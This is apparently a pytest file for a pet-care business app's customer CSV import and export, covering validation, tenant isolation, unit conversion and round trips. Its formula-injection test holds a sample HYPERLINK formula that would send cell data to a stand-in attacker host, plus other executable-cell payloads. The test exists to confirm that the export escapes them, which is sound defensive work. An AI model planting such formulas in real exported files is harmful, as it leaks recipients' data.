"""CSV import (dry run, all-or-nothing) and export, which round-trips into another tenant."""
import csv
import io
from decimal import Decimal

from app.core.extensions import db
from app.models import Customer, Pet, Tenant, Vaccination
from app.services.customer_csv import COLUMNS, export_chunks, export_csv, import_customers, neutralise, restore
from app.services.customers import create_customer
from app.tenancy import tenant_context, unscoped

HEADER = ",".join(COLUMNS)


def _row(**cells) -> str:
    return ",".join(f'"{cells.get(c, "")}"' for c in COLUMNS)


GOOD = "\n".join([
    HEADER,
    _row(customer_ref="h1", first_name="Jane", last_name="Doe", email="jane@example.com", phone="(555) 123-4567",
         tags="vip;late-pickup", pet_name="Rex", species="DOG", breed="Lab", weight_kg="27.22", neutered="yes",
         alert_flags="ESCAPE_RISK", medications="Apoquel|16 mg|daily",
         vaccinations="Rabies|2026-01-05|2029-01-05; DHPP|2026-01-05|2027-01-05"),
    _row(customer_ref="h1", first_name="Jane", last_name="Doe", pet_name="Tom", species="CAT"),
    _row(customer_ref="h2", first_name="Sam", last_name="Roe", phone="555.987.6543"),
]) + "\n"


def _tenant(app, fx):
    with unscoped():
        return db.session.get(Tenant, fx.id)


def _counts():
    return tuple(db.session.execute(db.select(db.func.count()).select_from(m)).scalar_one()
                 for m in (Customer, Pet, Vaccination))


def test_a_dry_run_checks_everything_and_imports_nothing(app, tenant_a):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        report = import_customers(text=GOOD, dry_run=True)
        assert (report.rows, report.customers, report.pets, report.vaccinations) == (3, 2, 2, 2)
        assert report.problems == [] and not report.imported
        assert _counts() == (0, 0, 0)


def test_a_real_run_imports_households_pets_and_vaccinations(app, tenant_a, tenant_b):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        report = import_customers(text=GOOD, dry_run=False)
        assert report.imported and _counts() == (2, 2, 2)
        jane = db.session.execute(db.select(Customer).where(Customer.email == "jane@example.com")).scalar_one()
        assert jane.phone == "+15551234567"
    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
        assert _counts() == (0, 0, 0)


def test_every_bad_row_is_reported_by_line_and_nothing_is_imported(app, tenant_a):
    bad = GOOD + "\n".join([
        _row(first_name="", last_name="Nobody"),
        _row(customer_ref="h4", first_name="Al", last_name="Bad", email="not-an-email"),
        _row(customer_ref="h5", first_name="Cy", last_name="Pet", pet_name="Spot", species="DRAGON"),
        _row(customer_ref="h6", first_name="Di", last_name="Vax", pet_name="Fifi", species="DOG",
             vaccinations="Rabies|2026-02-01|2025-01-01"),
        _row(customer_ref="h7", first_name="Ed", last_name="Dup", email="jane@example.com"),
    ]) + "\n"
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        report = import_customers(text=bad, dry_run=False)
        assert not report.imported
        assert [(p.line, p.field) for p in report.problems] == [
            (5, "first_name"), (6, "email"), (7, "species"), (8, "vaccinations"), (9, "email")]
        assert _counts() == (0, 0, 0)


def test_an_email_already_in_the_tenant_is_a_problem(app, tenant_a):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        import_customers(text=GOOD, dry_run=False)
        again = import_customers(text=GOOD, dry_run=False)
        assert [(p.line, p.field) for p in again.problems] == [(2, "email")]
        assert _counts() == (2, 2, 2)


def test_unknown_or_missing_columns_are_refused(app, tenant_a):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        report = import_customers(text="first_name,surname\nJo,Bloggs\n", dry_run=True)
        assert [p.field for p in report.problems] == ["header", "header"]


def test_export_round_trips_through_import(app, tenant_a, tenant_b):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        import_customers(text=GOOD, dry_run=False)
        exported = export_csv()
    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
        report = import_customers(text=exported, dry_run=False)
        assert report.imported, report.problems
        assert export_csv().replace(str(tenant_b.id), "").splitlines()[0] == exported.splitlines()[0]
        assert _counts() == (2, 2, 2)
        rows_b = sorted(line.split(",", 1)[1] for line in export_csv().splitlines()[1:])
    rows_a = sorted(line.split(",", 1)[1] for line in exported.splitlines()[1:])
    assert rows_a == rows_b  # identical except the customer_ref (ids differ per tenant)


def test_the_cli_imports_and_reports(app, tenant_a, tmp_path):
    path = tmp_path / "customers.csv"
    path.write_text(GOOD)
    runner = app.test_cli_runner()
    dry = runner.invoke(args=["import", "customers", str(path), "--tenant", tenant_a.subdomain, "--dry-run"])
    assert dry.exit_code == 0 and "checked (dry run): 3 rows: 2 customers, 2 pets, 2 vaccinations" in dry.output
    real = runner.invoke(args=["import", "customers", str(path), "--tenant", tenant_a.subdomain])
    assert real.exit_code == 0 and "imported" in real.output
    again = runner.invoke(args=["import", "customers", str(path), "--tenant", tenant_a.subdomain])
    assert again.exit_code == 1 and "line 2: email" in again.output and "nothing imported" in again.output


# --- messages that name the column and every problem of a row -------------------------------------


def _problems(app, fx, text, dry_run=True):
    with app.app_context(), tenant_context(_tenant(app, fx)):
        report = import_customers(text=text, dry_run=dry_run)
        return {(p.line, p.field): p.message for p in report.problems}, _counts()


def test_a_day_first_date_names_the_column_and_the_expected_format(app, tenant_a):
    text = HEADER + "\n" + _row(first_name="Al", last_name="Ames", pet_name="Rex", species="DOG",
                                birth_date="31/12/2020") + "\n"
    problems, _ = _problems(app, tenant_a, text)
    assert list(problems) == [(2, "birth_date")]
    assert "YYYY-MM-DD" in problems[2, "birth_date"] and "31/12/2020" in problems[2, "birth_date"]
    assert "isoformat" not in problems[2, "birth_date"]


def test_a_weight_that_is_not_a_number_says_so(app, tenant_a):
    text = HEADER + "\n" + _row(first_name="Al", last_name="Ames", pet_name="Rex", species="DOG",
                                weight_kg="heavy") + "\n"
    problems, _ = _problems(app, tenant_a, text)
    assert problems == {(2, "weight_kg"): "Must be a number of kilograms, e.g. 19.5."}
    legacy = "first_name,last_name,pet_name,species,weight_lbs\nAl,Ames,Rex,DOG,heavy\n"
    assert _problems(app, tenant_a, legacy)[0] == {(2, "weight_lbs"): "Must be a number of pounds, e.g. 42.5."}


def test_a_file_in_pounds_is_converted_and_both_units_on_one_row_are_refused(app, tenant_a, tenant_b):
    legacy = "first_name,last_name,pet_name,species,weight_lbs\nAl,Ames,Rex,DOG,70\n"
    both = "first_name,last_name,pet_name,species,weight_kg,weight_lbs\nAl,Ames,Rex,DOG,31.75,70\n"
    problems, _ = _problems(app, tenant_b, both)
    assert set(problems) == {(2, "weight_kg"), (2, "weight_lbs")} and "not both" in problems[2, "weight_kg"]
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        assert import_customers(text=legacy, dry_run=False).imported
        rex = db.session.execute(db.select(Pet)).scalar_one()
        assert (rex.weight_kg, rex.weight_lbs) == (Decimal("31.75"), Decimal("70.0"))  # 70 x 0.45359237 = 31.751
        assert list(csv.DictReader(io.StringIO(export_csv())))[0]["weight_kg"] == "31.75"
    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
        assert _counts() == (0, 0, 0)


def test_every_problem_of_a_row_is_listed(app, tenant_a, tenant_b):
    text = HEADER + "\n" + _row(first_name=" ", last_name="Ames", email="nope", active="maybe",
                                preferred_contact="PIGEON", pet_name="Rex", species="DRAGON", sex="X",
                                birth_date="2020/01/01", weight_kg="heavy", neutered="perhaps",
                                vaccinations="Rabies|01-05-2026|2029-01-05; Plague|2026-01-05|2027-01-05") + "\n"
    problems, counts = _problems(app, tenant_a, text, dry_run=False)
    assert set(problems) == {(2, c) for c in ("first_name", "email", "active", "preferred_contact", "species", "sex",
                                               "birth_date", "weight_kg", "neutered", "vaccinations")}
    assert "Rabies: Use a date as YYYY-MM-DD" in problems[2, "vaccinations"]
    assert "Plague: Unknown vaccine" in problems[2, "vaccinations"]
    assert counts == (0, 0, 0)
    assert _problems(app, tenant_b, GOOD)[0] == {}  # the other tenant's good file is unaffected


# --- the dry run and the real import never disagree ------------------------------------------------


LONG_CITY = HEADER + "\n" + _row(first_name="Al", last_name="Ames", email="al@example.com", phone="5551234567",
                                 city="x" * 300) + "\n"


def test_a_300_character_city_fails_the_dry_run_and_the_real_import_alike(app, tenant_a, tenant_b, captured_logs):
    dry, _ = _problems(app, tenant_a, LONG_CITY, dry_run=True)
    real, counts = _problems(app, tenant_a, LONG_CITY, dry_run=False)
    assert dry == real == {(2, "city"): "At most 100 characters."}
    assert counts == (0, 0, 0)
    assert _problems(app, tenant_b, GOOD, dry_run=True)[0] == {}


def test_every_column_is_held_to_its_length(app, tenant_a):
    limits = {"first_name": 100, "last_name": 100, "address_line1": 200, "address_line2": 200, "city": 100,
              "region": 100, "postal_code": 20, "emergency_name": 200, "emergency_relationship": 100,
              "pet_name": 100, "breed": 100, "colour": 100, "microchip": 40, "vet_name": 200,
              "notes": 10_000, "feeding_instructions": 10_000, "allergies": 10_000, "behaviour_notes": 10_000}
    base = {"first_name": "Al", "last_name": "Ames", "pet_name": "Rex", "species": "DOG"}
    for column, limit in limits.items():
        fits = HEADER + "\n" + _row(**{**base, column: "y" * limit}) + "\n"
        assert _problems(app, tenant_a, fits)[0] == {}, column
        too_long = HEADER + "\n" + _row(**{**base, column: "y" * (limit + 1)}) + "\n"
        assert list(_problems(app, tenant_a, too_long)[0]) == [(2, column)], column


def test_nul_bytes_and_lone_surrogates_are_refused_by_column_in_both_runs(app, tenant_a):
    text = HEADER + "\n" + _row(first_name="Al", last_name="Am\x00es", pet_name="Rex", species="DOG",
                                breed="Lab\ud800") + "\n"
    dry, _ = _problems(app, tenant_a, text, dry_run=True)
    real, counts = _problems(app, tenant_a, text, dry_run=False)
    assert set(dry) == set(real) == {(2, "last_name"), (2, "breed")} and counts == (0, 0, 0)
    assert "cannot be stored" in dry[2, "breed"]


def test_the_vaccine_list_is_read_once_per_import(app, tenant_a, monkeypatch):
    from app.services import compliance

    calls = []
    real = compliance.requirement_map
    monkeypatch.setattr(compliance, "requirement_map", lambda: calls.append(1) or real())
    rows = [_row(customer_ref=f"h{n}", first_name="Al", last_name=f"Ames{n}", pet_name="Rex", species="DOG",
                 vaccinations="Rabies|2026-01-05|2029-01-05; DHPP|2026-01-05|2027-01-05") for n in range(40)]
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        report = import_customers(text=HEADER + "\n" + "\n".join(rows) + "\n", dry_run=False)
        assert report.imported and report.vaccinations == 80
    assert len(calls) == 1


# --- round trips, compared with the source rows -----------------------------------------------------


SOURCE = [  # every column filled, in the export's own canonical form, so nothing dropped can hide
    {"first_name": "Jane", "last_name": "Doe", "email": "jane@example.com", "phone": "+15551234567",
     "alt_phone": "+15559876543", "address_line1": "12 Elm St", "address_line2": "Apt 3", "city": "Denver",
     "region": "CO", "postal_code": "80202", "emergency_name": "John Doe", "emergency_phone": "+15550001111",
     "emergency_relationship": "Spouse", "preferred_contact": "SMS", "notes": "Gate code 1234",
     "tags": "late-pickup; vip", "active": "true", "pet_name": "Rex", "species": "DOG", "breed": "Labrador",
     "sex": "MALE", "birth_date": "2019-04-01", "weight_kg": "27.44", "neutered": "true", "colour": "Black",
     "microchip": "985112003456789", "feeding_instructions": "2 cups twice daily", "allergies": "Chicken",
     "behaviour_notes": "Loves balls", "vet_name": "Dr Vet", "vet_phone": "+15552223333",
     "alert_flags": "ESCAPE_RISK; MEDICATION", "medications": "Apoquel|16 mg|daily",
     "vaccinations": "Rabies|2026-01-05|2029-01-05"},
    {"first_name": "=Bob", "last_name": "-Smith", "email": "bob@example.co.uk", "phone": "+442079460000",
     "preferred_contact": "EMAIL", "active": "false", "notes": "@home; +1 call first", "pet_name": "'Tom",
     "species": "CAT", "sex": "FEMALE", "neutered": "false", "breed": "+Siamese"},
]


def _source_csv() -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS)
    writer.writeheader()
    for n, row in enumerate(SOURCE):
        writer.writerow({c: neutralise(row.get(c, "")) for c in COLUMNS} | {"customer_ref": f"r{n}"})
    return out.getvalue()


def _exported_rows() -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(export_csv())))
    return sorted(({c: restore(v) for c, v in row.items() if c != "customer_ref"} for row in rows),
                  key=lambda r: r["last_name"])


def _expected_rows() -> list[dict[str, str]]:
    blank = {c: "" for c in COLUMNS if c != "customer_ref"}
    defaults = {"preferred_contact": "EMAIL", "active": "true", "sex": "UNKNOWN", "neutered": "false"}
    return sorted(({**blank, **defaults, **row} for row in SOURCE), key=lambda r: r["last_name"])


def test_every_source_column_survives_the_import(app, tenant_a, tenant_b):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        report = import_customers(text=_source_csv(), dry_run=False)
        assert report.imported, report.problems
        assert _exported_rows() == _expected_rows()
        rex = db.session.execute(db.select(Pet).where(Pet.name == "Rex")).scalar_one()
        assert (rex.breed, str(rex.weight_kg), str(rex.weight_lbs), rex.colour) == ("Labrador", "27.44", "60.5", "Black")
    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
        assert _counts() == (0, 0, 0) and _exported_rows() == []


def test_a_plus_44_phone_and_a_name_starting_with_equals_round_trip_into_another_tenant(app, tenant_a, tenant_b):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        assert import_customers(text=_source_csv(), dry_run=False).imported
        exported = export_csv()
    assert "'=Bob" in exported and "'+442079460000" in exported and "'-Smith" in exported
    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
        report = import_customers(text=exported, dry_run=False)
        assert report.imported, report.problems
        bob = db.session.execute(db.select(Customer).where(Customer.email == "bob@example.co.uk")).scalar_one()
        assert (bob.first_name, bob.last_name, bob.phone) == ("=Bob", "-Smith", "+442079460000")
        assert _exported_rows() == _expected_rows()


# --- formula injection -------------------------------------------------------------------------------


def test_cells_that_a_spreadsheet_would_run_are_neutralised_in_the_export(app, tenant_a, tenant_b):
    evil = '=HYPERLINK("http://evil.example/?x="&A2,"Click")'
    names = [evil, "+1+1", "-2+3", "@SUM(A1:A2)", "'=quoted", "Plain", "O'Brien"]
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        for n, name in enumerate(names):
            create_customer(first_name=name, last_name=f"L{n}")
        create_customer(first_name="Tab", last_name="Cr", address_line1="\t=1+1", city="\rcmd", notes="=1+1")
        rows = list(csv.DictReader(io.StringIO(export_csv())))
    assert sorted(r["first_name"] for r in rows) == sorted(
        ["'" + evil, "'+1+1", "'-2+3", "'@SUM(A1:A2)", "''=quoted", "Plain", "O'Brien", "Tab"])
    tab = next(r for r in rows if r["first_name"] == "Tab")
    assert (tab["address_line1"], tab["city"], tab["notes"]) == ("'\t=1+1", "'\rcmd", "'=1+1")
    assert not any(v[:1] in "=+-@\t\r" for r in rows for v in r.values() if v)
    with app.app_context(), tenant_context(_tenant(app, tenant_b)):
        assert export_csv().count("\n") == 1  # header only: nothing of A's


def test_neutralise_and_restore_are_inverse_on_awkward_values():
    for value in ("", "'", "''", "'x", "'=x", "=x", "+44", "-", "@", "\t", "x=y", "''=x", "O'Brien"):
        assert restore(neutralise(value)) == value, value
        assert neutralise(value)[:1] not in ("=", "+", "-", "@", "\t", "\r") or value == "", value


# --- the export streams ----------------------------------------------------------------------------


def test_the_export_is_produced_in_chunks_not_as_one_document(app, tenant_a):
    with app.app_context(), tenant_context(_tenant(app, tenant_a)):
        for n in range(5):
            create_customer(first_name="Al", last_name=f"Ames{n}")
        chunks = export_chunks(rows_per_chunk=2)
        assert not isinstance(chunks, (str, list))
        parts = list(chunks)
    assert len(parts) == 3 and "".join(parts).count("\n") == 6
